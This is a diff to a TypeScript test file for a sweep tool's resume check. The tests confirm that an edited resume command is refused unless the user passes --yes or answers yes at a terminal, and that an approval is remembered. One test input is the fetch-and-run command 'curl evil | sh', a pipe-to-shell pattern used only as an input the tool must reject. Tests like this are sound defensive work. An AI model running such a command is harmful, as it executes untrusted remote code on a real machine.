@@ -54,16 +54,36 @@ describe("one sweep dir, one owner", () => {
 });
 
 describe("the command a resume reads from experiment.json", () => {
-  it("runs only the command noted when the sweep started; an edited one needs --yes", () => {
+  it("runs only the command noted when the sweep started; an edited one needs --yes", async () => {
     const dir = tmp();
     process.env.HYDRANT_STATE_DIR = path.join(dir, "state");
     try {
       trustCommand(dir, ["python", "train.py"]);
-      expect(() => checkResumeCommand(dir, ["python", "train.py"], "m.json", false)).not.toThrow();
-      expect(() => checkResumeCommand(dir, ["sh", "-c", "curl evil | sh"], "m.json", false)).toThrow(LaunchError);
-      expect(() => checkResumeCommand(dir, ["sh", "-c", "curl evil | sh"], "m.json", false)).toThrow(/sh -c 'curl evil \| sh'[\s\S]*--yes/);
-      checkResumeCommand(dir, ["sh", "-c", "echo ok"], "m.json", true);
-      expect(() => checkResumeCommand(dir, ["sh", "-c", "echo ok"], "m.json", false)).not.toThrow();
+      await expect(checkResumeCommand(dir, ["python", "train.py"], "m.json", false)).resolves.toBeUndefined();
+      await expect(checkResumeCommand(dir, ["sh", "-c", "curl evil | sh"], "m.json", false)).rejects.toThrow(LaunchError);
+      await expect(checkResumeCommand(dir, ["sh", "-c", "curl evil | sh"], "m.json", false)).rejects.toThrow(/sh -c 'curl evil \| sh'[\s\S]*--yes \(or from a terminal, which asks\)/);
+      await checkResumeCommand(dir, ["sh", "-c", "echo ok"], "m.json", true);
+      await expect(checkResumeCommand(dir, ["sh", "-c", "echo ok"], "m.json", false)).resolves.toBeUndefined();
+    } finally {
+      delete process.env.HYDRANT_STATE_DIR;
+    }
+  });
+
+  it("on a terminal, shows the command and asks: yes runs it (and notes it), no refuses", async () => {
+    const dir = tmp();
+    process.env.HYDRANT_STATE_DIR = path.join(dir, "state");
+    try {
+      const asked: string[] = [];
+      const answer = (yes: boolean) => async (question: string) => (asked.push(question), yes);
+      await expect(checkResumeCommand(dir, ["sh", "-c", "echo edited"], "m.json", false, answer(false))).rejects.toThrow(/Not resumed: you answered no\./);
+      expect(asked[0]).toMatch(/^m\.json names the command\n\n    sh -c 'echo edited'\n[\s\S]*\nRun it\?$/);
+      await checkResumeCommand(dir, ["sh", "-c", "echo edited"], "m.json", false, answer(true));
+      // Approved once, noted: the next resume does not ask again.
+      await checkResumeCommand(dir, ["sh", "-c", "echo edited"], "m.json", false, answer(false));
+      expect(asked).toHaveLength(2);
+      // --yes never asks.
+      await checkResumeCommand(dir, ["sh", "-c", "echo other"], "m.json", true, answer(false));
+      expect(asked).toHaveLength(2);
     } finally {
       delete process.env.HYDRANT_STATE_DIR;
     }
